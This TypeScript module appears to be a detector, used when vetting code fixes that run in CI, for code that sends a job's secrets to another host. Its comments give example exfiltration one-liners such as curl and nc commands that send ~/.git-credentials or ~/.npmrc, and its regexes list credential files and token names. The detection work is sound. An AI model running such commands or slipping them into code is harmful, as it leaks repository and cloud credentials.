/**
 * A CI job's secrets sent to another host by code a fix adds, in the forms `dangerous-code.ts`'s one-line `secrets-dump`
 * does not read (session 65): the fix branch is pushed to the repository, whose `push` and `pull_request` workflows run
 * it with the repository's secrets. Read per form, each chosen so that an ordinary test sending a token to its own
 * service (in a header, in a body to a URL it is given, to localhost) still passes:
 * - a variable holding the whole environment or a credential file's text, named in a call that sends;
 * - a credential file, or the checkout's `extraheader`, read and sent on one line (`curl -d @~/.git-credentials`,
 *   `cat ~/.npmrc | nc h 443`, `sock.send(open(expanduser('~/.git-credentials')).read())`);
 * - a secret-named variable in a literal URL to a host other than localhost, GitHub's or npm's registry
 *   (`fetch('https://h/c?t=' + process.env.NPM_TOKEN)`), or in the body of a request to such a URL;
 * - one of the job's own credentials ({@link JOB_CREDENTIAL}) in a request's query or body to any host, or sent on a socket;
 * - a DNS lookup of a name built from a secret-named variable.
 */

/** Names a secret is kept under (`NPM_TOKEN`, `DB_PASSWORD`, `STRIPE_API_KEY`, `GOOGLE_CREDENTIALS`). */
export const SECRET_NAME = String.raw`\w*(?:token|secret|passw(?:or)?d|passphrase|api_?key|access_?key|private_?key|credentials?)\w*`;
/** Files of keys or tokens (`~/.aws/credentials`, `~/.ssh/id_rsa`, `.npmrc`): also the injection detector's. */
export const CREDENTIAL_FILE = String.raw`(?:~|\$home|\/home\/\w+|\/root)?\/?\.(?:aws\/credentials|ssh\/(?:id_\w+|[\w.-]+\.pem)|npmrc|pypirc|netrc|git-credentials|docker\/config\.json|kube\/config|config\/gh\/hosts\.ya?ml)\b`;
/** The job's own credentials, which no request carries in its query or body to a service the tests own. */
const JOB_CREDENTIAL = String.raw`(?:github_token|gh_token|actions_\w*(?:token|url)|npm_token|node_auth_token|aws_secret_access_key|aws_session_token|pypi_\w*token|twine_password)`;
/** A variable read by name, in Node, Python or a shell. */
const read = (name: string) => String.raw`(?:process\.env\s*(?:\.\s*|\[\s*["'\x60])|os\.environ\s*(?:\[\s*|\.get\(\s*)["']|os\.getenv\(\s*["']|\$\{?)${name}\b`;
/** Hosts a token is sent to by its own service: the machine itself, GitHub's, npm's registry. */
const ELSEWHERE = String.raw`(?!(?:[^\s/@"'\x60]*@)?(?:localhost|127\.[\d.]+|0\.0\.0\.0|\[::1\]|(?:[\w-]+\.)*github\.com|(?:[\w-]+\.)*githubusercontent\.com|registry\.npmjs\.org)(?![\w.@-]))`;
/** A call that sends what it is given. */
const SEND = String.raw`(?:\b(?:requests|httpx|axios|session|client|https?)\s*\.\s*(?:get|post|put|patch|request)|\b(?:fetch|urlopen|post|put|send|sendall|sendto|request))\s*\(`;
const FORMS = new RegExp(
  [
    // A credential file, or the checkout's auth header, read and sent on one line.
    String.raw`(?:(?:@|-T\s*|--upload-file\s+)[^\s"'\x60]{0,40}|${SEND}[^\n]{0,200}?)${CREDENTIAL_FILE}|(?:${CREDENTIAL_FILE}|\bextraheader\b)[^\n|]{0,200}\|\s*(?:curl|wget|n(?:et)?cat|nc|socat)\b`,
    // A secret in a literal URL to another host: inside it (`?t=${…}`, `$NPM_TOKEN`, `{os.environ[…]}`) or added to it.
    String.raw`\b(?:https?|wss?):\/\/${ELSEWHERE}[^\s"'\x60{}]*(?:\{\s*|["'\x60]\s*\+\s*|(?=\$))${read(SECRET_NAME)}`,
    // A secret in the body of a request to such a URL.
    String.raw`${SEND}\s*[fbr]?["'\x60](?:https?|wss?):\/\/${ELSEWHERE}[^\n]{0,300}?\b(?:data|json|body|params|files|content)\s*[=:][^\n]{0,150}?${read(SECRET_NAME)}`,
    // The job's credential in a request's query or body to any host, or on a socket.
    String.raw`${SEND}[^\n]{0,200}?\b(?:params|data|json|body|files|content|query|qs)\s*[=:][^\n]{0,150}?${read(JOB_CREDENTIAL)}|\.\s*send(?:all|to)?\s*\([^\n]{0,100}?${read(JOB_CREDENTIAL)}`,
    // A DNS lookup of a secret-named variable (encoded or not).
    String.raw`(?:\bdns\b[^\n]{0,40}?\.|\b(?:resolver|socket)\s*\.\s*|(?<![\w.-])(?=gethostbyname|getaddrinfo))\s*(?:lookup|resolve\w*|query|gethostbyname\w*|getaddrinfo)\s*\([^\n]{0,200}?${read(SECRET_NAME)}|(?<![\w.-])(?:dig|nslookup|host)\s[^\n]{0,200}?${read(SECRET_NAME)}`,
  ].join('|'),
  'i',
);

/** The whole environment as an expression (`process.env`, `os.environ`, a copy of it), not a variable read from it. */
const WHOLE_ENVIRONMENT = String.raw`(?:process\.env|os\.environ)\b(?!\s*\[|\s*\.\s*(?!copy\b|items\b)\w)`;
/** A name given the whole environment or a credential file's text on one line: group 1 the name. */
const CARRIER = new RegExp(String.raw`(?<![\w$.])([A-Za-z_$][\w$]*)[ \t]*=(?![=>])[^\n;]{0,300}?(?:${WHOLE_ENVIRONMENT}|${CREDENTIAL_FILE})`, 'gi');
/** At most this many carriers are followed; past them, a text is read as sending one (fail closed). */
const MAX_CARRIERS = 16;
const SENDING = new RegExp(String.raw`${SEND}[^\n;]{0,200}`, 'gi');

/** Whether `text` sends the environment or a credential file through a variable that holds it. */
function carriedAndSent(text: string): boolean {
  const carriers = new Set([...text.matchAll(CARRIER)].map((match) => match[1]!));
  if (carriers.size === 0) return false;
  if (carriers.size > MAX_CARRIERS) return true;
  const named = new RegExp(String.raw`(?<![\w$.'"])(?:${[...carriers].map((name) => name.replace(/\$/g, '\\$')).join('|')})\b(?!\s*(?:\.\s*\w|\[|=[^=]))`);
  for (const call of text.matchAll(SENDING)) if (named.test(call[0])) return true;
  return false;
}

/** Whether `text` sends a CI job's secrets to another host in one of this module's forms. */
export function secretsSent(text: string): boolean {
  return FORMS.test(text) || carriedAndSent(text);
}
